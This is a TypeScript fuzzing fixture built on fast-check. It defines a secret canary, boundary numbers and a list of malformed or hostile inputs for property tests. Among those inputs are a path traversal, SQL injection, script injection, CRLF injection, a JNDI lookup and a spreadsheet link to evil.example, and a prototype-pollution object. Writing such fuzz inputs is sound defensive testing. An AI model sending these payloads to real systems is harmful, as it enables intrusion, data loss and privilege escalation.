import fc from 'fast-check';

/** What must be found in no log: it goes where a secret goes. */
export const CANARY = 'EAAAcanary-of-the-fuzzing';

/** A list in a list in a list. */
export const deep = (levels: number) => '['.repeat(levels) + ']'.repeat(levels);

/** Texts on which programs have stumbled. */
export const NASTY_TEXTS = [
  '',
  ' ',
  '\0',
  'a\0b',
  '\ud800',
  '\udfff x',
  '\u202Eevil',
  '\uFEFF',
  '\x1b@\x1bp\0\x19\xfa',
  '\x10\x14\x01\0\x05',
  '😀'.repeat(50),
  'e\u0301'.repeat(200),
  'x'.repeat(70_000),
  '4111 1111 1111 1111',
  '__proto__',
  'constructor',
  'toString',
  '../../../etc/passwd',
  "'; DROP TABLE orders; --",
  '" OR 1=1 --',
  '<script>alert(1)</script>',
  '%00%0d%0aX-Evil: 1',
  '${jndi:ldap://evil.example}',
  '=HYPERLINK("http://evil.example")',
  '#',
  '+/pos/#',
  '-1',
  '1e400',
  '0x10',
  '９９',
  'NaN',
  'null',
  '2026-02-30',
  '2026-11-23T25:61:61.000Z',
  '9999-12-31',
  '0000-01-01',
];

/** Numbers at the edges of what fits somewhere. */
const NASTY_NUMBERS = [
  0,
  -0,
  -1,
  0.1,
  1.005,
  -0.004,
  1e-300,
  1e21,
  1e308,
  2 ** 31,
  2 ** 32,
  2 ** 53,
  2 ** 53 + 2,
  2 ** 63,
  -(2 ** 63),
  4_111_111_111_111_111,
];

/** Any JSON value that a field is not made for. */
export const nasty: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom<unknown>(...NASTY_TEXTS),
  fc.constantFrom<unknown>(...NASTY_NUMBERS),
  fc.constantFrom<unknown>(null, true, false, [], {}, [null], [[]], { '': '' }),
  fc.constantFrom<unknown>(
    JSON.parse(deep(500)),
    JSON.parse('{"__proto__":{"isAdmin":true}}'),
    Array.from({ length: 5_000 }, () => 0),
    Object.fromEntries(Array.from({ length: 2_000 }, (_, i) => [`k${i}`, i])),
  ),
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc.integer(),
  fc.double(),
  fc.jsonValue({ maxDepth: 4 }),
);
